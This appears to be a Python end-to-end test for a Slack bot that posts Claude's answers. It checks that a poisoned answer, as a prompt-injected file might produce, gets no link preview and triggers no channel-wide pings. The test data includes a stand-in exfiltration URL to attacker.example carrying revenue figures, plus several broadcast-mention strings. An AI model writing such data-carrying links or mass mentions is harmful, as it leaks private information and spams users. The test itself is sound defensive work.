"""Claude's text is the output of a model that reads whatever people attach. A poisoned file can make it
write a link that carries data, or ping a whole channel: what reaches Slack must do neither."""

from __future__ import annotations

import pytest

from bot.slack.safe_text import INERT_AT
from emulators.anthropic import AnthropicEmulator, Python, Say, Script
from emulators.slack import SlackEmulator
from tests.e2e.conftest import StartBot
from tests.e2e.helpers import wait_finished

LEAK = "https://attacker.example/collect?data=Q3-revenue-4.2M"
POISONED = (
    f"Summary done. Also see {LEAK} for details. <!here> please review, "
    "and @channel too: <!subteam^S0OPS|@ops>"
)


@pytest.mark.parametrize("streaming", [True, False], ids=["streamed", "plain-message"])
async def test_a_poisoned_answer_fetches_no_link_and_pings_nobody(
    slack: SlackEmulator, claude: AnthropicEmulator, start_bot: StartBot, streaming: bool
) -> None:
    # The mention is split over deltas, as a model streams it; a step's card carries one too.
    claude.model = Script([[Say(POISONED[:60]), Say(POISONED[60:]), Python("print('<!everyone>')")]])
    if not streaming:
        slack.fail_next("chat.startStream", error="not_allowed_token_type")
    await start_bot()
    root = await slack.post_message("ana", "general", "summarise the attached", mention_bot=True)
    text = await wait_finished(slack, "general", root)
    assert LEAK in text  # the answer is shown as written...
    assert slack.unfurls == []  # ...but Slack was not asked to fetch it
    assert slack.special_mentions == []
    assert f"{INERT_AT}here please review" in text and f"{INERT_AT}ops" in text
